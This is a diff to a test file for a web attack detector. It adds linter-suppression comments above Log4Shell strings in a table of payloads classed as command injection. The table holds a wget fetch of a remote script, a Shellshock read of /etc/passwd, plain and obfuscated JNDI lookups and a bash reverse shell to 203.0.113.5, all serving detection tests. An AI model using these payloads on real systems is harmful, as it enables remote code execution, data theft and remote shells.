@@ -37,7 +37,9 @@ describe('web attack patterns: attacks', () => {
     ['/api?x=`id`', 'command_injection'],
     ['/cgi-bin/x?cmd=a%0awget http://203.0.113.5/x.sh', 'command_injection'],
     ['() { :; }; /bin/bash -c "cat /etc/passwd"', 'command_injection'],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, not a template
     ['${jndi:ldap://203.0.113.5:1389/a}', 'command_injection'],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: an obfuscated Log4Shell payload
     ['${${lower:j}ndi:${lower:l}dap://x/a}', 'command_injection'],
     ['/x?c=bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', 'command_injection'],
   ])('%s → %s', (payload, attack) => {
